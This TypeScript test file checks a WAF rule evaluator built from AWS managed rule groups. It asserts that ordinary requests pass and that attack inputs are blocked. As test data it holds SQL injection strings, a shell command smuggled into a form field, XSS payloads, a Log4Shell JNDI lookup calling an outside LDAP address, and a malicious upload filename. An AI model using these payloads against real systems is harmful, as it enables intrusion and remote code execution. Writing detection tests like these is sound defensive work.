import { test } from "node:test";
import assert from "node:assert/strict";
import type { WebACL } from "@aws-sdk/client-wafv2";
import type { InspectedRequest } from "../../types.js";
import { compileWebAcl, createStaticResolver, createLocalRateCounter } from "../index.js";

// End to end through compileWebAcl: the groups a typical web ACL combines, inspecting
// Content-Type-aware inputs with the native detectors.
const GROUPS = ["AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesKnownBadInputsRuleSet", "AWSManagedRulesLinuxRuleSet", "AWSManagedRulesUnixRuleSet", "AWSManagedRulesWindowsRuleSet", "AWSManagedRulesPHPRuleSet"];
const VIS = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: "m" };
const acl: WebACL = {
  Name: "t", Id: "1", ARN: "arn:aws:wafv2:us-east-1:111122223333:regional/webacl/t/1", DefaultAction: { Allow: {} }, VisibilityConfig: VIS,
  Rules: GROUPS.map((Name, Priority) => ({ Name, Priority, OverrideAction: { None: {} }, VisibilityConfig: VIS, Statement: { ManagedRuleGroupStatement: { VendorName: "AWS", Name } } })),
};
const evaluator = compileWebAcl(acl, { resolver: createStaticResolver(), rateCounter: createLocalRateCounter(), clock: { now: () => 1_700_000_000_000 }, tokenKey: Buffer.alloc(32, 3) });

function req(uri: string, opts: { method?: string; headers?: Array<[string, string]>; body?: string; ct?: string } = {}): InspectedRequest {
  const q = uri.indexOf("?");
  const body = Buffer.from(opts.body ?? "", "utf8");
  const headers: Array<[string, string]> = [["Host", "shop.example"], ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"], ["Accept", "*/*"], ...(opts.headers ?? [])];
  if (opts.ct) headers.push(["Content-Type", opts.ct]);
  if (body.length) headers.push(["Content-Length", String(body.length)]);
  return { requestId: "r", time: 0, method: opts.method ?? (body.length ? "POST" : "GET"), uri, path: q < 0 ? uri : uri.slice(0, q), query: q < 0 ? "" : uri.slice(q + 1), httpVersion: "1.1", headers, body, bodyTruncated: false, bodyLength: body.length, clientIp: "198.51.100.9", scheme: "https" };
}
async function verdict(r: InspectedRequest): Promise<string> {
  const d = await evaluator.evaluate(r);
  return d.action === "ALLOW" ? "ALLOW" : (d.matchedRules.find((m) => m.action === "BLOCK")?.ruleId ?? d.action);
}

test("a developer-forum comment quoting SQL, shell and HTML in Markdown code passes", async () => {
  const comment = "Same problem here since Tuesday. This is what I ran:\n\n```sql\nSELECT u.id, u.email FROM users u WHERE u.created_at > now() - interval '1 day';\n```\n\nand then `curl -s localhost:8080/health | jq .` which printed nothing. The page also renders `<script src=\"/app.js\"></script>` twice. Any ideas?";
  assert.equal(await verdict(req("/api/issues/7/comments", { body: JSON.stringify({ body: comment }), ct: "application/json" })), "ALLOW");
  assert.equal(await verdict(req("/wiki/Runbook", { method: "PUT", body: comment, ct: "text/markdown; charset=utf-8" })), "ALLOW");
});

test("the same kind of content injected into a parameter is blocked", async () => {
  assert.equal(await verdict(req("/items?id=1%20union%20select%20email%20from%20users")), "SQLi_QUERYARGUMENTS");
  assert.equal(await verdict(req("/api/issues/7/comments", { body: JSON.stringify({ body: "nice' OR '1'='1" }), ct: "application/json" })), "SQLi_BODY");
  assert.equal(await verdict(req("/ping", { body: "host=example.com%3B%20uname%20-a", ct: "application/x-www-form-urlencoded" })), "UNIXShellCommandsVariables_BODY");
});

test("ordinary traffic passes", async () => {
  for (const r of [
    req("/search?q=O%27Brien%20%26%20Sons&sort=price"),
    req("/search?q=python%20tutorial%20for%20beginners"),
    req("/checkout", { body: "name=Ana+D%27Souza&note=Leave+it+with+reception%3B+thanks%21", ct: "application/x-www-form-urlencoded" }),
    req("/api/orders", { body: JSON.stringify({ sku: "SKU-1", qty: 2, note: "Select the red one; otherwise cancel." }), ct: "application/json" }),
  ]) assert.equal(await verdict(r), "ALLOW", r.uri);
});

test("JSON keys, XML attributes and multipart file names are inspected in their own terms", async () => {
  assert.equal(await verdict(req("/api/login", { body: '{"user":"a","pass":{"$ne":null}}', ct: "application/json" })), "SQLiExtendedPatterns_BODY");
  assert.equal(await verdict(req("/api/feed", { body: '<?xml version="1.0"?><item title="&lt;img src=x onerror=alert(1)&gt;"/>', ct: "application/xml" })), "CrossSiteScripting_BODY");
  const mp = (filename: string) => `--b1\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b1--\r\n`;
  assert.equal(await verdict(req("/upload", { body: mp("avatar.phtml"), ct: "multipart/form-data; boundary=b1" })), "RestrictedFileUpload_BODY");
  assert.equal(await verdict(req("/upload", { body: mp("a;b=c.txt"), ct: "multipart/form-data; boundary=b1" })), "MultipartViolation_BODY");
  assert.equal(await verdict(req("/upload", { body: mp("holiday.jpg"), ct: "multipart/form-data; boundary=b1" })), "ALLOW");
});

test("headers and cookies", async () => {
  assert.equal(await verdict(req("/", { headers: [["X-Api-Version", "${jndi:ldap://198.51.100.7/a}"]] })), "Log4JRCE_HEADER");
  assert.equal(await verdict(req("/", { headers: [["Cookie", "theme=dark; pref=%3Csvg%20onload%3Dalert(1)%3E"]] })), "CrossSiteScripting_COOKIE");
  assert.equal(await verdict(req("/", { headers: [["Accept-Encoding", "gzip;q=1.0, compress;q=0.5"], ["Accept", "text/html;q=0.9,*/*;q=0.8"]] })), "ALLOW");
});

test("protocol checks: body without Content-Type, compressed body, legacy cookie syntax", async () => {
  assert.equal(await verdict(req("/api", { body: '{"a":1}' })), "MissingContentType_HEADER");
  assert.equal(await verdict(req("/api", { body: '{"a":1}', ct: "application/json", headers: [["Content-Encoding", "gzip"]] })), "EncodedBody_HEADER");
  assert.equal(await verdict(req("/", { headers: [["Cookie", "$Version=1; sid=\"a; b\""]] })), "LegacyCookieSyntax_COOKIE");
  assert.equal(await verdict(req("/", { headers: [["Referer", "https://shop.example/a%00.html"]] })), "InvalidEncoding_HEADER");
});

test("session identifiers in parameters: server session names always, others from another site", async () => {
  assert.equal(await verdict(req("/login?JSESSIONID=ABC123")), "SessionFixation_QUERYARGUMENTS");
  assert.equal(await verdict(req("/login?app_session=ABC123", { headers: [["Referer", "https://elsewhere.example/x"]] })), "SessionFixation_QUERYARGUMENTS");
  assert.equal(await verdict(req("/login?app_session=ABC123", { headers: [["Referer", "https://shop.example/cart"]] })), "ALLOW");
  assert.equal(await verdict(req("/cb?code=x&session_state=y", { headers: [["Referer", "https://idp.example/"]] })), "ALLOW");
});
